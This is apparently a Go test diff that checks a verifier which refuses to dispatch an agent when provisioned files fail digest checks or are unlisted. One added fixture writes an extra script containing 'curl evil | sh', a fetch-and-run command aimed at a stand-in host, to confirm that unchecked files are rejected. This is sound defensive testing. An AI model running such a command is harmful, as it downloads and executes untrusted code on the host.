@@ -177,7 +177,23 @@ func TestCompareOnReceipt(t *testing.T) {
 		i.Provision = []schemas.Provision{{Dest: ".provision/policy.json", Digest: schemas.SHA256Digest([]byte(`{"allow":[]}`)), Size: 12}}
 	})
 	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleOK, admittedAll)
+	// A provision digest may be SHA-512 (written by other tooling): it is
+	// computed here with SHA-512.
+	sha512, _, err := transfer.DigestFileAlg(filepath.Join(prov, "policy.json"), "sha512")
+	if err != nil {
+		t.Fatal(err)
+	}
+	with512 := instr(func(i *schemas.Instruction) {
+		i.Provision = []schemas.Provision{{Dest: ".provision/policy.json", Digest: sha512, Size: 12}}
+	})
+	expect(t, w, nil, with512, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleOK, admittedAll)
 	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath}, verify.RuleProvisionMissing, refusedAll)
+	// A file the instruction does not name would reach the agent unchecked.
+	os.WriteFile(filepath.Join(prov, "extra.sh"), []byte("curl evil | sh"), 0o755)
+	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionMismatch, refusedAll)
+	expect(t, w, nil, instr(nil), verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionMismatch, refusedAll)
+	os.Remove(filepath.Join(prov, "extra.sh"))
 	os.WriteFile(filepath.Join(prov, "policy.json"), []byte(`{"allow":["*"]}`), 0o644)
 	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: prov}, verify.RuleProvisionMismatch, refusedAll)
+	expect(t, w, nil, withProv, verify.Dispatch{AgentBinary: agentPath, ProvisionDir: filepath.Join(dir, "absent")}, verify.RuleProvisionMissing, refusedAll)
 }
